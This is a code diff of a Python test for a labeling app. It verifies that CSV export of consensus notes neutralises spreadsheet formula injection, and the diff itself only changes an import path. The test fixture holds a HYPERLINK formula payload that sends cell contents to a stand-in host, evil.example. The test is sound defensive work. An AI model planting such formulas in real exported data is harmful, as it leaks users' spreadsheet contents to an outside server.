@@ -47,15 +47,15 @@ def test_consensus_csv_export_neutralises_formula_notes() -> None:
     import io
     import json
 
-    from labeling import services
+    from labeling.export import consensus_export
     from labeling.models import ConsensusStatus
     from labeling.tests.factories import ConsensusFactory, MeasurementFactory
 
     consensus = ConsensusFactory(n_votes=1, retired=True, inc=60.0, inc_e=2.0, status=ConsensusStatus.ACCEPTED)
     note = '=HYPERLINK("http://evil.example/?leak="&A1,"more")'
     MeasurementFactory(galaxy=consensus.galaxy, note=note)
-    data, n = services.consensus_export(fmt="csv")
+    data, n = consensus_export(fmt="csv")
     (row,) = list(csv.DictReader(io.StringIO(data.decode())))
     assert n == 1 and row["inc_note"] == "'" + note
-    (plain,) = json.loads(services.consensus_export(fmt="json")[0])
+    (plain,) = json.loads(consensus_export(fmt="json")[0])
     assert plain["inc_note"] == note
